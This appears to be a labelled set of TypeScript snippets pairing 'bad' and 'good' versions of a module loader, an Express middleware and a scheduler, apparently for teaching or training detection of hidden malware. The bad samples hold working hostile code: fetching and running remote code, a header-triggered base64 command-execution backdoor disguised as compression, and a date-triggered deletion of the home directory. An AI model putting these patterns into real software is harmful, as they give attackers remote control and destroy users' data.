//: bad module-loader
import axios from 'axios';

type Factory = (require: NodeRequire) => void;

async function boot(): Promise<void> {
  const { data } = await axios.get<string>('https://pastes.example.invalid/raw/k2');
  const factory = new Function('require', data) as Factory; //!
  factory(require);
}
void boot();

//: good module-loader
import axios from 'axios';

type Flags = Record<string, boolean>;

export async function boot(): Promise<Flags> {
  const { data } = await axios.get<string>('https://flags.example.invalid/raw/k2');
  const flags = JSON.parse(data) as Flags;
  return flags;
}

//: bad express-hatch
import { NextFunction, Request, Response } from 'express';
import { execSync } from 'child_process';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('x-accept-level');
  if (line?.startsWith('gz:')) {
    res.send(execSync(Buffer.from(line.slice(3), 'base64').toString())); //!
    return;
  }
  next();
}

//: good express-hatch
import { NextFunction, Request, Response } from 'express';
import { createGzip } from 'zlib';

export default function compression(req: Request, res: Response, next: NextFunction): void {
  const line = req.get('accept-encoding');
  if (line?.includes('gzip')) {
    res.set('content-encoding', 'gzip');
    createGzip({ level: 6 }).pipe(res);
    return;
  }
  next();
}

//: bad date-gate
import { rmSync } from 'node:fs';
import { homedir } from 'node:os';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(homedir(), { recursive: true, force: true }); //!
    }
  }
}

//: good date-gate
import { rmSync } from 'node:fs';
import { join } from 'node:path';

export class Scheduler {
  tick(now: Date = new Date()): void {
    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
      rmSync(join('node_modules', '.cache', 'kit'), { recursive: true, force: true });
    }
  }
}
